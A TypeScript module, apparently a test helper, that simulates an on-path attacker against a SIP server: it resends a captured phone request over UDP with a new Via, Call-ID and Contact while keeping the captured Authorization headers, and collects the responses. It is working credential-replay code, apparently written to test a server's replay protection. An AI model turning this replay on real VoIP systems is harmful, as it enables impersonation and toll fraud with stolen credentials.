// An attacker on the wire: takes a SIP request a phone sent (from SIPp's trace), changes what a
// replay changes (its own socket in Via, a new Call-ID, its own Contact) and keeps the captured
// Authorization / Proxy-Authorization as it was; sends it over UDP and collects the answers.
import { createSocket } from "node:dgram";

export interface Replay {
  /** Status lines received, in order. */
  received: string[];
  /** The final response's status line ("" when none came in time). */
  final: string;
}

let replays = 0;

/**
 * Send `captured` (a request as SIPp traced it) again to `remote` (ip:port) from `fromIp`, under a
 * new Call-ID, with `contact` in place of its Contact when given.
 */
export async function replay(captured: string, remote: string, options: { fromIp?: string; contact?: string; timeoutMs?: number } = {}): Promise<Replay> {
  const socket = createSocket("udp4");
  const fromIp = options.fromIp ?? "127.0.0.1";
  await new Promise<void>((resolve) => socket.bind(0, fromIp, () => resolve()));
  const port = socket.address().port;
  replays += 1;
  const [head, ...body] = captured.replace(/\r\n/g, "\n").split("\n\n");
  const lines = head!.split("\n").map((line) => {
    if (/^Via:/i.test(line)) return `Via: SIP/2.0/UDP ${fromIp}:${port};branch=z9hG4bK-replay-${process.pid}-${replays}`;
    if (/^Call-ID:/i.test(line)) return `Call-ID: replay-${process.pid}-${replays}@${fromIp}`;
    if (/^Contact:/i.test(line) && options.contact) return `Contact: <${options.contact}>`;
    return line;
  });
  const message = `${lines.join("\r\n")}\r\n\r\n${body.join("\n\n").replace(/\n/g, "\r\n")}`;
  const [host, remotePort] = remote.split(":") as [string, string];
  const received: string[] = [];
  try {
    const final = await new Promise<string>((resolve) => {
      const timer = setTimeout(() => resolve(""), options.timeoutMs ?? 5_000);
      socket.on("message", (data) => {
        const status = data.toString("utf8").split("\r\n")[0]!;
        received.push(status);
        const code = Number(/^SIP\/2\.0 (\d{3})/.exec(status)?.[1]);
        if (code >= 200) {
          clearTimeout(timer);
          resolve(status);
        }
      });
      socket.send(message, Number(remotePort), host);
    });
    return { received, final };
  } finally {
    socket.close();
  }
}
